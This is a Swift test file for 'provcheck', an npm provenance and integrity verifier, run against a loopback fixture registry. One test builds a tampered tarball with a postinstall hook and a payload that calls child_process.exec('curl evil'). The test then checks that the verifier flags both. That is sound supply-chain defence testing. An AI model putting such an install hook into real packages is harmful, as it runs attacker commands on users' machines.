import Foundation
import LoopbackRegistry
import Testing
import TestSupport

/// What people expect of a verifier they install (issue #16): a version, JSON errors, examples in every help,
/// the same trust options everywhere, npm's package specs, `--source` checked. Through the binary, against the
/// fixture registry on loopback.
@Suite(.serialized) struct UserExperienceTests {
    /// stdout as the `{"error": {"code", "message"}}` object every exit 2 prints with `--json`.
    static func errorObject(_ run: ProvcheckBinary.Run) -> (code: String, message: String)? {
        guard let error = run.json?["error"] as? [String: Any], let code = error["code"] as? String,
              let message = error["message"] as? String else { return nil }
        return (code, message)
    }

    @Test func versionFlagsAndCommandAgreeWithSARIF() throws {
        let long = try ProvcheckBinary.run(["--version"])
        let short = try ProvcheckBinary.run(["-V"])
        let command = try ProvcheckBinary.run(["version"])
        let json = try ProvcheckBinary.run(["version", "--json"])
        for run in [long, short, command, json] { #expect(run.status == 0, "\(run.stderr)") }
        let version = long.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(version.split(separator: ".").count == 3, "\(version)")
        #expect(short.stdout == long.stdout)
        #expect(command.stdout == long.stdout)
        #expect(json.json?["version"] as? String == version)

        // The SARIF written by verify carries the same version.
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-version-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let sarif = folder.appendingPathComponent("out.sarif")
        let verify = try ProvcheckBinary.run([
            "verify", "gundam-visor@1.0.1", "--registry", registry.baseURL.absoluteString, "--offline",
            "--source", Fixtures.url("npm/sources/ramonpetgrave64+gundam-visor.bundle").path, "--sarif", sarif.path])
        #expect(verify.status == 1, "\(verify.stderr)")
        let log = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: sarif)) as? [String: Any])
        let driver = ((log["runs"] as? [[String: Any]])?.first?["tool"] as? [String: Any])?["driver"] as? [String: Any]
        #expect(driver?["version"] as? String == version)
    }

    @Test func everyExitTwoPrintsAJSONErrorObject() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let url = registry.baseURL.absoluteString
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-json-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let cases: [([String], String)] = [
            (["verify", "--json"], "EUSAGE"),                                            // missing argument
            (["verify", "gundam-visor", "--json", "--registry", url], "EINVALIDSPEC"),
            (["verify", "gundam-visor@1.0.1", "--json", "--source", folder.appendingPathComponent("nope").path], "EUSAGE"),
            (["integrity", "ms@9.9.9", "--json", "--registry", url], "ETARGET"),
            (["integrity", "ms@^9", "--json", "--registry", url], "ETARGET"),
            (["integrity", "no-such-package@1.0.0", "--json", "--registry", url], "E404"),
            (["integrity", "ms@2.1.3", "--json", "--registry", "http://127.0.0.1:1/", "--attempts", "1"], "EREGISTRY"),
            (["attestations", "ms@2.1.3", "--json", "--registry", url, "--keys", folder.appendingPathComponent("k.json").path], "EINPUT"),
            (["compare", "--json", folder.appendingPathComponent("a.tgz").path, folder.appendingPathComponent("b.tgz").path], "EINPUT"),
            (["hash", "--json", folder.appendingPathComponent("missing").path], "EINPUT"),
            (["watch", "--json", "--config", folder.appendingPathComponent("w.toml").path, "--state",
              folder.appendingPathComponent("s.json").path], "EINPUT"),
            (["audit", folder.path, "--json"], "EINPUT"),
        ]
        for (arguments, expectedCode) in cases {
            let run = try ProvcheckBinary.run(arguments)
            #expect(run.status == 2, "\(arguments): \(run.status) \(run.stderr)")
            let error = Self.errorObject(run)
            #expect(error != nil, "\(arguments): stdout is not an error object: \(run.stdout)")
            #expect(error?.code == expectedCode, "\(arguments): \(error?.code ?? "-") \(error?.message ?? "")")
            #expect(error.map { !$0.message.isEmpty } == true)
            // The same problem is on stderr, for people.
            #expect(!run.stderr.isEmpty)
        }
        // Without --json, nothing on stdout.
        let text = try ProvcheckBinary.run(["integrity", "ms@^9", "--registry", url])
        #expect(text.status == 2)
        #expect(text.stdout.isEmpty)
        #expect(text.stderr.contains("provcheck integrity: ms@^9: no version matches"), "\(text.stderr)")
    }

    @Test func sourceThatDoesNotExistIsAUsageError() throws {
        for command in [["verify", "gundam-visor@1.0.1"], ["staged", "check", "gundam-visor"]] {
            let run = try ProvcheckBinary.run(command + ["--source", "/nonexistent/provcheck-source"])
            #expect(run.status == 2, "\(command): \(run.stderr)")
            #expect(run.stderr.contains("--source /nonexistent/provcheck-source: no such file or directory"), "\(run.stderr)")
        }
    }

    static let subcommands: [[String]] = [
        ["integrity"], ["rebuild"], ["hash"], ["compare"], ["attestations"], ["verify"], ["audit"], ["sigstore"],
        ["sigstore", "verify-bundle"], ["watch"], ["watch", "run"], ["watch", "merge"], ["staged"], ["staged", "list"],
        ["staged", "check"], ["version"],
    ]

    @Test func everySubcommandHelpHasExamplesThatFitTheTerminal() throws {
        for command in Self.subcommands {
            let run = try ProvcheckBinary.run(command + ["--help"], environment: ["COLUMNS": "80"])
            #expect(run.status == 0, "\(command)")
            let lines = run.stdout.components(separatedBy: "\n")
            guard let start = lines.firstIndex(of: "Examples:") else {
                Issue.record("\(command): no Examples section")
                continue
            }
            var examples = 0
            for line in lines[(start + 1)...] {
                if line.isEmpty { break }
                #expect(line.hasPrefix("  "), "\(command): example line was wrapped: \(line)")
                if line.hasPrefix("  provcheck ") { examples += 1 }
            }
            #expect(examples >= 1, "\(command)")
        }
        // The top-level help is honest about exit 0 (incomplete also exits 0).
        let top = try ProvcheckBinary.run(["--help"])
        #expect(top.stdout.contains("incomplete"))
        #expect(!top.stdout.contains("0  every check ran and passed"))
    }

    /// The help block of one option in a command's --help.
    static func optionHelp(_ option: String, in help: String) -> String? {
        let lines = help.components(separatedBy: "\n")
        guard let start = lines.firstIndex(where: { $0.hasPrefix("  \(option) ") }) else { return nil }
        var block = [lines[start]]
        for line in lines[(start + 1)...] {
            if line.hasPrefix("  -") || line.trimmingCharacters(in: .whitespaces).isEmpty { break }
            block.append(line)
        }
        return block.joined(separator: "\n")
    }

    @Test func trustAndPolicyOptionsReadTheSameEverywhere() throws {
        var keysHelp: Set<String> = []
        var rootHelp: Set<String> = []
        var policyHelp: Set<String> = []
        for command in [["verify"], ["audit"], ["attestations"], ["watch", "run"]] {
            let help = try ProvcheckBinary.run(command + ["--help"], environment: ["COLUMNS": "80"]).stdout
            keysHelp.insert(try #require(Self.optionHelp("--keys <file>", in: help), "\(command)"))
            rootHelp.insert(try #require(Self.optionHelp("--trusted-root <file>", in: help), "\(command)"))
        }
        for command in [["verify"], ["audit"], ["staged", "check"]] {
            let help = try ProvcheckBinary.run(command + ["--help"], environment: ["COLUMNS": "80"]).stdout
            policyHelp.insert(try #require(Self.optionHelp("--policy <file>", in: help), "\(command)"))
        }
        let staged = try ProvcheckBinary.run(["staged", "check", "--help"], environment: ["COLUMNS": "80"]).stdout
        rootHelp.insert(try #require(Self.optionHelp("--trusted-root <file>", in: staged)))
        #expect(keysHelp.count == 1, "\(keysHelp)")
        #expect(rootHelp.count == 1, "\(rootHelp)")
        #expect(policyHelp.count == 1, "\(policyHelp)")
        // True: the built-in keys serve registry.npmjs.org, any other registry is asked.
        let keys = keysHelp.first!.split(whereSeparator: \.isWhitespace).joined(separator: " ")
        #expect(keys.contains("built-in keys for registry.npmjs.org, else the registry's /-/npm/v1/keys"), "\(keys)")
        // --offline says what it does: a loopback registry is still asked.
        let verify = try ProvcheckBinary.run(["verify", "--help"], environment: ["COLUMNS": "80"]).stdout
        let offline = try #require(Self.optionHelp("--offline", in: verify)).split(whereSeparator: \.isWhitespace)
            .joined(separator: " ")
        #expect(offline.contains("loopback") && !offline.contains("never touch the network"), "\(offline)")
    }

    @Test func distTagsAndRangesResolveAsNPMDoes() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let url = registry.baseURL.absoluteString
        // semver's fixture packument (91 versions with the fixture case 7.6.3, which is served as latest; legacy 5.7.1).
        let cases: [(String, String)] = [
            ("semver@latest", "semver@7.6.3"), ("semver@^7", "semver@7.6.3"), ("semver@7", "semver@7.6.3"),
            ("semver@~7.3.0", "semver@7.3.2"), ("semver@>=7.3 <7.4", "semver@7.3.2"), ("semver@7.3.x", "semver@7.3.2"),
            ("semver@>=7.3 <8", "semver@7.6.3"), ("semver@v7.6.3", "semver@7.6.3"),
        ]
        for (spec, resolved) in cases {
            let run = try ProvcheckBinary.run(["integrity", spec, "--registry", url, "--json"])
            #expect(run.status == 0, "\(spec): \(run.stderr)")
            if spec != "semver@v7.6.3" {
                #expect(run.stderr.contains("provcheck integrity: \(spec) resolved to \(resolved)"), "\(spec): \(run.stderr)")
            }
            #expect(run.json?["version"] as? String == String(resolved.split(separator: "@").last!), "\(spec)")
        }
        // A range the latest tag is outside of: the highest matching release (5.7.1 is not served as a tarball, so
        // the command stops at the download, after naming the version).
        let legacy = try ProvcheckBinary.run(["integrity", "semver@^5", "--registry", url])
        #expect(legacy.stderr.contains("semver@^5 resolved to semver@5.7.1"), "\(legacy.stderr)")
        let tag = try ProvcheckBinary.run(["integrity", "semver@nope", "--registry", url, "--json"])
        #expect(tag.status == 2)
        #expect(Self.errorObject(tag)?.code == "ETARGET")
        #expect(Self.errorObject(tag)?.message.contains("no dist-tag \"nope\" (tags: latest, legacy)") == true,
                "\(tag.stdout)")
        // An exact version is used as given, without asking the registry first.
        let exact = try ProvcheckBinary.run(["integrity", "semver@7.3.2", "--registry", url])
        #expect(exact.stderr.isEmpty, "\(exact.stderr)")
        #expect(exact.status == 0)
        #expect(!exact.stderr.contains("resolved to"))
    }

    @Test func watchSARIFNamesPackageLevelFindingsWithAWellFormedPurl() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-purl-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let config = folder.appendingPathComponent("watch.json")
        try Data(#"{"version": 1, "packages": [{"name": "no-such-package"}, {"name": "@scope/missing"}]}"#.utf8).write(to: config)
        let sarif = folder.appendingPathComponent("watch.sarif")
        let run = try ProvcheckBinary.run(["watch", "--config", config.path, "--state", folder.appendingPathComponent("s.json").path,
                                           "--registry", registry.baseURL.absoluteString, "--sarif", sarif.path])
        #expect(run.status == 1 || run.status == 0, "\(run.stderr)")
        let text = try String(contentsOf: sarif, encoding: .utf8)
        #expect(text.contains("\"pkg:npm/no-such-package\""), "\(text)")
        #expect(text.contains("\"pkg:npm/%40scope/missing\""), "\(text)")
        #expect(!text.contains("pkg:npm/no-such-package@\""))
        #expect(try SchemaValidation.sarifErrors(try Data(contentsOf: sarif)).isEmpty)
    }

    @Test func watchSaysAnUnreadableStagingListOncePerRunAndTheConfigCanTurnItOff() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        registry.inject(.status(404), on: "/-/stage*")
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-staged-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        func watch(_ config: String) throws -> ProvcheckBinary.Run {
            let file = folder.appendingPathComponent("watch-\(UUID().uuidString).json")
            try Data(config.utf8).write(to: file)
            return try ProvcheckBinary.run(["watch", "--config", file.path, "--state",
                                            folder.appendingPathComponent("s-\(UUID().uuidString).json").path,
                                            "--registry", registry.baseURL.absoluteString])
        }
        let packages = #"[{"name": "ms", "versions": {"latest": 1}}, {"name": "abbrev", "versions": {"latest": 1}}, {"name": "wrappy", "versions": {"latest": 1}}]"#
        let noisy = try watch(#"{"version": 1, "packages": \#(packages)}"#)
        #expect(noisy.status == 0, "\(noisy.stderr)\n\(noisy.stdout)")
        let mentions = noisy.stdout.components(separatedBy: "staging list could not be read").count - 1
        #expect(mentions == 1, "\(noisy.stdout)")
        #expect(noisy.stdout.contains("for 3 package(s) (abbrev, ms, wrappy)"), "\(noisy.stdout)")
        let quiet = try watch(#"{"version": 1, "staged": false, "packages": \#(packages)}"#)
        #expect(quiet.status == 0, "\(quiet.stderr)")
        #expect(!quiet.stdout.contains("staging list"), "\(quiet.stdout)")
        let bad = try watch(#"{"version": 1, "staged": "no", "packages": \#(packages)}"#)
        #expect(bad.status == 2)
        #expect(bad.stderr.contains("staged: not a boolean"), "\(bad.stderr)")
    }

    @Test func watchPrintsAGitErrorOnceWithRowsPointingToIt() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-git-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let config = folder.appendingPathComponent("watch.json")
        let source = folder.appendingPathComponent("no-such-repository").path
        try Data(#"{"version": 1, "staged": false, "packages": [{"name": "ms", "versions": {"latest": 3}, "source": "\#(source)"}]}"#.utf8)
            .write(to: config)
        let report = folder.appendingPathComponent("report.json")
        let run = try ProvcheckBinary.run(["watch", "--config", config.path, "--state", folder.appendingPathComponent("s.json").path,
                                           "--registry", registry.baseURL.absoluteString, "--offline", "--output", report.path])
        #expect(run.status == 0, "\(run.stderr)\n\(run.stdout)")
        #expect(run.stdout.components(separatedBy: "could not be read").count - 1 == 1, "\(run.stdout)")
        #expect(!run.stdout.contains("\n    fatal"), "a multi-line error was pasted: \(run.stdout)")
        let json = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: report)) as? [String: Any])
        let rows = try #require((json["packages"] as? [[String: Any]])?.first?["incomplete"] as? [String])
        #expect(rows.filter { $0.contains("unreadable (see the package's check-incomplete finding)") }.count == 3, "\(rows)")
    }

    @Test func watchStaysRedWhileATamperedVersionIsServedUntilAcknowledged() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-red-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let state = folder.appendingPathComponent("state.json")
        let config = folder.appendingPathComponent("watch.json")
        func night(acknowledge: String = "") throws -> ProvcheckBinary.Run {
            try Data(#"{"version": 1, "staged": false, "packages": [{"name": "wrappy", "versions": {"latest": 1}\#(acknowledge)}]}"#.utf8)
                .write(to: config)
            return try ProvcheckBinary.run(["watch", "--config", config.path, "--state", state.path,
                                            "--registry", registry.baseURL.absoluteString, "--offline"])
        }
        let first = try night()
        #expect(first.status == 0, "\(first.stdout)")
        let tampered = "sha512-" + String(repeating: "B", count: 86) + "=="
        registry.update { content in
            content.updateVersion(name: "wrappy", version: "1.0.2") { $0["dist"]?["integrity"] = .string(tampered) }
        }
        let second = try night()
        #expect(second.status == 1)
        #expect(second.stdout.contains("watch.integrity-changed"), "\(second.stdout)")
        // The change event is reported once; the open failure is restated every night after.
        let third = try night()
        #expect(third.status == 1, "the job went green while the tampered version is still served: \(third.stdout)")
        #expect(third.stdout.contains("watch.open-failure"), "\(third.stdout)")
        #expect(!third.stdout.contains("watch.integrity-changed"))
        #expect(third.stdout.contains("still open: dist.integrity is \(tampered)"), "\(third.stdout)")
        // Acknowledged for the digest now served: green; a bad acknowledgement entry is a usage error.
        let acknowledged = try night(acknowledge: #", "acknowledge": [{"version": "1.0.2", "digest": "\#(tampered)", "reason": "republished by the registry after an incident, checked by J."}]"#)
        #expect(acknowledged.status == 0, "\(acknowledged.stdout)")
        #expect(!acknowledged.stdout.contains("watch.open-failure"))
        let wrongDigest = try night(acknowledge: #", "acknowledge": [{"version": "1.0.2", "digest": "sha512-other", "reason": "x"}]"#)
        #expect(wrongDigest.status == 1)
        let noReason = try night(acknowledge: #", "acknowledge": [{"version": "1.0.2", "digest": "\#(tampered)"}]"#)
        #expect(noReason.status == 2)
        #expect(noReason.stderr.contains("acknowledge[0].reason"), "\(noReason.stderr)")
    }

    @Test(arguments: ["watch.json", "watch.toml"])
    func exampleWatchConfigurationsRunCleanAgainstTheDemoRegistry(file: String) throws {
        var content = try RegistryContent.fixtures(at: Fixtures.root)
        try content.addSignatures(from: Fixtures.root.appendingPathComponent("demo"))
        let registry = try LoopbackRegistry(content: content)
        defer { registry.stop() }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-example-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let config = Fixtures.repositoryRoot.appendingPathComponent("docs/examples/\(file)")
        for night in 1...2 {
            let run = try ProvcheckBinary.run(["watch", "--config", config.path, "--state", folder.appendingPathComponent("s.json").path,
                                               "--registry", registry.baseURL.absoluteString, "--offline"])
            #expect(run.status == 0, "\(file), night \(night): \(run.stdout)\n\(run.stderr)")
            #expect(run.stdout.contains(" 0 error(s)"), "\(file), night \(night): \(run.stdout)")
        }
    }

    /// Serves `tarball` as gundam-visor@1.0.1 (integrity and shasum updated) and returns verify's rebuild.compare check.
    static func rebuildCheck(serving tarball: Data, registry: LoopbackRegistry, folder: URL) throws -> (status: Int32, check: [String: Any]) {
        let file = folder.appendingPathComponent("served-\(UUID().uuidString).tgz")
        try tarball.write(to: file)
        let hashes = Process()
        hashes.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        hashes.arguments = ["python3", "-c", """
            import base64, hashlib, sys
            data = open(sys.argv[1], 'rb').read()
            print('sha512-' + base64.b64encode(hashlib.sha512(data).digest()).decode())
            print(hashlib.sha1(data).hexdigest())
            """, file.path]
        let out = Pipe()
        hashes.standardOutput = out
        try hashes.run()
        let lines = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self).split(separator: "\n")
        hashes.waitUntilExit()
        let path = RegistryContent.tarballPath(name: "gundam-visor", version: "1.0.1")
        registry.update { content in
            content.tarballs[path] = tarball
            content.updateVersion(name: "gundam-visor", version: "1.0.1") {
                $0["dist"]?["integrity"] = .string(String(lines[0]))
                $0["dist"]?["shasum"] = .string(String(lines[1]))
            }
        }
        let run = try ProvcheckBinary.run([
            "verify", "gundam-visor@1.0.1", "--registry", registry.baseURL.absoluteString, "--offline", "--json",
            "--source", try Fixtures.url("npm/sources/ramonpetgrave64+gundam-visor.bundle").path])
        let checks = run.json?["checks"] as? [[String: Any]] ?? []
        return (run.status, checks.first { $0["id"] as? String == "rebuild.compare" } ?? [:])
    }

    /// Runs a Python snippet over the real gundam-visor@1.0.1 tarball (argv[1]) writing the variant to argv[2].
    /// Runs provcheck with `arguments` on a terminal (script(1) gives it a pty) and returns what the terminal showed
    /// (stdout and stderr); `nil` where script(1) is missing.
    static func onTerminal(_ arguments: [String], environment extra: [String: String]) throws -> String? {
        guard FileManager.default.isExecutableFile(atPath: "/usr/bin/script") else { return nil }
        let command = ([try ProvcheckBinary.url().path] + arguments).map { "'\($0)'" }.joined(separator: " ")
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/script")
        process.arguments = ["-qec", command, "/dev/null"]
        var environment = ProcessInfo.processInfo.environment
        let cache = FileManager.default.temporaryDirectory.appendingPathComponent("ux-tty-cache-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: cache) }
        environment["XDG_CACHE_HOME"] = cache.path
        environment["npm_config_registry"] = nil
        environment.merge(extra) { $1 }
        process.environment = environment
        let out = Pipe()
        process.standardOutput = out
        process.standardInput = FileHandle.nullDevice
        try process.run()
        let text = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        return text
    }

    static func variant(_ script: String, folder: URL) throws -> Data {
        let input = try Fixtures.url("npm/tarballs/gundam-visor@1.0.1.tgz")
        let output = folder.appendingPathComponent("variant-\(UUID().uuidString).tgz")
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", "import gzip, io, sys, tarfile, json\n" + script, input.path, output.path]
        try process.run()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0)
        return try Data(contentsOf: output)
    }

    @Test func rebuildDifferencesReadRegistryRelativeAndAgreeWithTheOutcome() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-diff-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }

        // Zero blocks after the end-of-archive marker (as Python's tarfile pads): a finding, not a content change.
        let padded = try Self.variant("""
            tar = gzip.decompress(open(sys.argv[1], 'rb').read())
            open(sys.argv[2], 'wb').write(gzip.compress(tar + bytes(512 * 16), 9))
            """, folder: folder)
        let (paddedStatus, paddedCheck) = try Self.rebuildCheck(serving: padded, registry: registry, folder: folder)
        #expect(paddedCheck["status"] as? String == "pass", "\(paddedCheck)")
        #expect((paddedCheck["evidence"] as? [String: String])?["outcome"] == "content-identical")
        let paddedReasons = (paddedCheck["reasons"] as? [String]) ?? []
        #expect(paddedReasons.contains { $0.hasPrefix("finding: the registry tarball has zero padding after its end-of-archive marker") },
                "\(paddedReasons)")
        #expect(!paddedReasons.contains { $0.contains("differs for 0 file(s)") }, "\(paddedReasons)")
        _ = paddedStatus

        // A postinstall script and a file added to the registry tarball: "added", and the failing check names the file.
        let tampered = try Self.variant("""
            src = tarfile.open(sys.argv[1], 'r:gz')
            buf = io.BytesIO()
            dst = tarfile.open(fileobj=buf, mode='w', format=tarfile.USTAR_FORMAT)
            for member in src.getmembers():
                data = src.extractfile(member).read()
                if member.name == 'package/package.json':
                    manifest = json.loads(data)
                    manifest.setdefault('scripts', {})['postinstall'] = 'node lib/evil.js'
                    data = json.dumps(manifest, indent=2).encode()
                member.size = len(data)
                dst.addfile(member, io.BytesIO(data))
            evil = tarfile.TarInfo('package/lib/evil.js')
            payload = b'require("child_process").exec("curl evil")\\n'
            evil.size = len(payload)
            evil.mode = 0o644
            dst.addfile(evil, io.BytesIO(payload))
            dst.close()
            open(sys.argv[2], 'wb').write(gzip.compress(buf.getvalue(), 9))
            """, folder: folder)
        let (tamperedStatus, tamperedCheck) = try Self.rebuildCheck(serving: tampered, registry: registry, folder: folder)
        #expect(tamperedStatus == 1)
        #expect(tamperedCheck["status"] as? String == "fail", "\(tamperedCheck)")
        let reasons = (tamperedCheck["reasons"] as? [String]) ?? []
        #expect(reasons.contains { $0.contains("postinstall added") }, "\(reasons)")
        #expect(!reasons.contains { $0.contains("postinstall removed") }, "\(reasons)")
        #expect(reasons.contains { $0.contains("added in the registry tarball") && $0.contains("lib/evil.js") }, "\(reasons)")
        #expect(!reasons.contains { $0.hasPrefix("content-identical") }, "a reason contradicts the outcome: \(reasons)")
    }

    @Test func sourceFromAnotherRepositoryIsSaidPlainly() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let run = try ProvcheckBinary.run([
            "verify", "gundam-visor@1.0.1", "--registry", registry.baseURL.absoluteString, "--offline",
            "--source", try Fixtures.url("npm/sources/vercel+ms.bundle").path])
        #expect(run.status == 1, "\(run.stderr)")
        #expect(run.stdout.contains("is probably not https://github.com/ramonpetgrave64/gundam-visor (the repository the provenance names)"),
                "\(run.stdout)")
        #expect(!run.stdout.contains("history rewritten"))
    }

    /// `integrity` and `rebuild` report progress too; on a terminal a download shows the bytes received so far and
    /// the rate while the body arrives (the registry sends it slowly here).
    @Test func integrityAndRebuildReportProgressAndLiveBytes() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let spec = ["integrity", "mime-db@1.44.0", "--registry", registry.baseURL.absoluteString]
        registry.inject(.slowBody(chunkSize: 4096, interval: 0.2), on: "/mime-db/-/*")
        let plain = try ProvcheckBinary.run(spec, environment: ["PROVCHECK_PROGRESS_DELAY": "0"])
        #expect(plain.status == 0, "\(plain.stderr)")
        #expect(plain.stderr.contains("provcheck integrity: fetch done: "), "\(plain.stderr)")
        #expect(plain.stderr.contains("B/s) http://127.0.0.1:"), "\(plain.stderr)")
        #expect(plain.stderr.contains("provcheck integrity: inspect gzip and tar layers of mime-db@1.44.0"), "\(plain.stderr)")
        let quiet = try ProvcheckBinary.run(spec + ["--quiet"], environment: ["PROVCHECK_PROGRESS_DELAY": "0"])
        #expect(!quiet.stderr.contains("provcheck integrity:"), "\(quiet.stderr)")

        if let text = try Self.onTerminal(spec, environment: ["PROVCHECK_PROGRESS_DELAY": "0", "TERM": "xterm"]) {
            // e.g. "provcheck integrity: fetch 8.2 kB, 10.1 kB/s, 0 s: http://127.0.0.1:…"
            let live = text.components(separatedBy: "\r\u{1B}[K").filter { $0.hasPrefix("provcheck integrity: fetch ") && $0.contains("B/s, ") }
            #expect(!live.isEmpty, "no live byte count: \(text.prefix(600))")
        }
        registry.removeFaults()

        let bundle = try Fixtures.url("npm/sources/ramonpetgrave64+gundam-visor.bundle").path
        let output = FileManager.default.temporaryDirectory.appendingPathComponent("ux-rebuild-\(UUID().uuidString).tgz")
        defer { try? FileManager.default.removeItem(at: output) }
        let rebuild = try ProvcheckBinary.run(["rebuild", bundle, "--ref", "v1.0.1", "--output", output.path],
                                              environment: ["PROVCHECK_PROGRESS_DELAY": "0"])
        #expect(rebuild.status == 0, "\(rebuild.stderr)")
        #expect(rebuild.stderr.contains("provcheck rebuild: rebuild \(bundle) at v1.0.1"), "\(rebuild.stderr)")
    }

    @Test func progressOnStderrForSlowCommandsAndColourChoices() throws {
        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
        defer { registry.stop() }
        let bundle = try Fixtures.url("npm/sources/ramonpetgrave64+gundam-visor.bundle").path
        let base = ["verify", "gundam-visor@1.0.1", "--registry", registry.baseURL.absoluteString, "--offline", "--source", bundle]

        // A fast run prints no progress.
        let fast = try ProvcheckBinary.run(base)
        #expect(!fast.stderr.contains("provcheck verify:"), "\(fast.stderr)")

        // A slow tarball: plain lines (not a terminal) with the bytes and the rate of the fetch.
        registry.inject(.delay(seconds: 1.5), on: "/gundam-visor/-/*")
        let slow = try ProvcheckBinary.run(base)
        #expect(slow.status == 1)
        #expect(slow.stderr.contains("provcheck verify: fetch http://127.0.0.1:"), "\(slow.stderr)")
        let done = slow.stderr.split(separator: "\n").first { $0.contains("provcheck verify: fetch done: ") }
        #expect(done?.contains("823 B in 1.") == true && done?.contains("B/s)") == true, "\(slow.stderr)")
        #expect(slow.stderr.contains("provcheck verify: rebuild "), "\(slow.stderr)")
        #expect(!slow.stderr.contains("\u{1B}["), "escape codes when stderr is not a terminal")
        #expect(!slow.stdout.contains("provcheck verify: fetch"))

        // --quiet: none.
        let quiet = try ProvcheckBinary.run(base + ["--quiet"])
        #expect(!quiet.stderr.contains("provcheck verify:"), "\(quiet.stderr)")

        // On a terminal (script(1) gives the command a pty): one live line, redrawn in place and cleared.
        if let text = try Self.onTerminal(base, environment: ["NO_COLOR": "1"]) {
            // The fetch line names the tarball (with the bytes received so far once the body has started).
            #expect(text.contains("\r\u{1B}[Kprovcheck verify: fetch ") && text.contains("http://127.0.0.1:"),
                    "\(text.prefix(400))")
            #expect(text.contains(" s\r\u{1B}[K"), "the live line is not cleared: \(text.prefix(400))")
        }
        registry.removeFaults()

        // Colour: --color always/never, FORCE_COLOR, NO_COLOR.
        let always = try ProvcheckBinary.run(base + ["--color", "always"])
        #expect(always.stdout.contains("\u{1B}["))
        let forced = try ProvcheckBinary.run(base, environment: ["FORCE_COLOR": "1", "NO_COLOR": nil])
        #expect(forced.stdout.contains("\u{1B}["))
        let never = try ProvcheckBinary.run(base + ["--color", "never"], environment: ["FORCE_COLOR": "1"])
        #expect(!never.stdout.contains("\u{1B}["))
        let auto = try ProvcheckBinary.run(base, environment: ["FORCE_COLOR": nil])
        #expect(!auto.stdout.contains("\u{1B}["), "colour on a pipe")
        let bad = try ProvcheckBinary.run(base + ["--color", "sometimes"])
        #expect(bad.status == 2)
    }

    @Test func auditAgainstAnUnreachableRegistrySaysSoOnce() throws {
        let temporary = try TemporaryFolder(label: "ux-audit")
        defer { temporary.cleanup() }
        let folder = temporary.url
        try AuditProject.write(to: folder, packages: (0..<12).map {
            .init("pkg\($0)@1.0.0", integrity: "sha512-" + String(repeating: "A", count: 86) + "==")
        })
        let text = try ProvcheckBinary.run(["audit", "--registry", "http://127.0.0.1:1/", "--attempts", "1"], in: folder)
        #expect(text.status == 2)
        let lines = text.stderr.split(separator: "\n")
        #expect(lines.count == 1, "\(text.stderr)")
        #expect(text.stderr.contains("no registry package could be fetched (12 package(s))"), "\(text.stderr)")
        #expect(text.stdout.isEmpty, "\(text.stdout)")
        let json = try ProvcheckBinary.run(["audit", "--registry", "http://127.0.0.1:1/", "--attempts", "1", "--json"], in: folder)
        #expect(json.status == 2)
        #expect(Self.errorObject(json)?.code == "ENETWORK")
    }
}
